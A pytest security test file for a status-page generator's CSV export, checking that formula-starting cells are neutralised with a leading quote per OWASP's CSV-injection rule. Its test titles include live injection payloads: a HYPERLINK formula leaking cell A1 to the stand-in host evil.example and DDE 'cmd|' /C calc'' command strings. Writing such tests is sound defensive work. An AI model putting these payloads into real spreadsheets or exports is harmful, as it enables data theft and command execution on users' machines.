"""Issue 10, security 4: `statuspress export --format csv` cannot smuggle a formula into a spreadsheet.

OWASP's CSV-injection rule: a cell starting with =, +, -, @, a tab or a carriage return is read as a
formula by Excel, LibreOffice and Google Sheets; such a cell gets a leading single quote. The CSV is
read back with Python's csv module; the JSON export stays exact.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from tests.security.project import quoted, write_project
from tests.support.paths import REPO_ROOT
from tests.support.site_build import EXAMPLE_AT

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
TITLES = {
    "2026-11-01-equals": '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    "2026-11-02-plus": "+cmd|' /C calc'!A0",
    "2026-11-03-minus": "-2+3+cmd|' /C calc'!A0",
    "2026-11-04-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "2026-11-05-tab": "\t=1+1",
    "2026-11-06-return": "\r=1+1 after a carriage return",
    "2026-11-07-plain": "Plain title, = inside is fine",
}
TAGS = ["=1+1", "-db", "ok"]


def incident(title: str, day: str) -> str:
    return f"""\
title: {quoted(title)}
impact: minor
started_at: 2026-11-{day}T08:00:00Z
tags: [{", ".join(quoted(t) for t in TAGS)}]
updates:
  - at: 2026-11-{day}T08:10:00Z
    status: resolved
    message: Fixed.
"""


@pytest.fixture(scope="module")
def project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("csv") / "project"
    write_project(root, {stem: incident(title, stem[8:10]) for stem, title in TITLES.items()})
    return root


def export(project: Path, fmt: str) -> str:
    from click.testing import CliRunner

    from generator.cli import main

    result = CliRunner().invoke(main, ["export", "--format", fmt, "--at", EXAMPLE_AT,
                                       "--config-file", str(project / "mkdocs.yml")], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    return result.stdout


def test_no_csv_cell_starts_like_a_formula(project: Path) -> None:
    rows = list(csv.reader(io.StringIO(export(project, "csv"), newline="")))
    assert len(rows) == 1 + len(TITLES)
    cells = [(row[0], cell) for row in rows[1:] for cell in row]
    assert [(row, cell) for row, cell in cells if cell.startswith(FORMULA_STARTS)] == []


def test_neutralised_cells_keep_their_text_after_a_quote(project: Path) -> None:
    rows = list(csv.DictReader(io.StringIO(export(project, "csv"), newline="")))
    by_id = {row["id"]: row for row in rows}
    for stem, typed in TITLES.items():
        title = typed.strip()   # text fields are read without surrounding whitespace
        expected = "'" + title if title.startswith(FORMULA_STARTS) else title
        assert by_id[stem]["title"] == expected, stem
        assert by_id[stem]["tags"] == "'" + ";".join(TAGS)
    assert by_id["2026-11-07-plain"]["duration_minutes"] == "10.0"   # numbers are left alone


def test_json_export_is_exact(project: Path) -> None:
    """Exactly the titles as read (text fields are read without surrounding whitespace)."""
    rows = json.loads(export(project, "json"))["incidents"]
    assert {row["id"]: row["title"] for row in rows} == {stem: title.strip() for stem, title in TITLES.items()}
    assert all(row["tags"] == TAGS for row in rows)


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_formula_start_is_neutralised_in_a_cell(start: str) -> None:
    """Text fields lose surrounding whitespace when read, so tab and CR are checked on the cell itself."""
    rows = list(csv.reader(io.StringIO(cells_as_csv([f"{start}1+1", ["x", f"{start}y"], 3.5, None, True]),
                                       newline="")))
    assert rows == [[f"'{start}1+1", "x;" + f"{start}y", "3.5", "", "true"]]


def cells_as_csv(values: list[object]) -> str:
    from generator.export import _cell

    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerow([_cell(v) for v in values])
    return out.getvalue()


def test_the_example_export_is_unchanged_by_the_rule() -> None:
    """The example's titles, tags and paths start with letters: nothing there gets a quote."""
    rows = list(csv.reader(io.StringIO(export(REPO_ROOT, "csv"), newline="")))
    assert len(rows) > 10
    assert [cell for row in rows for cell in row if cell.startswith("'")] == []
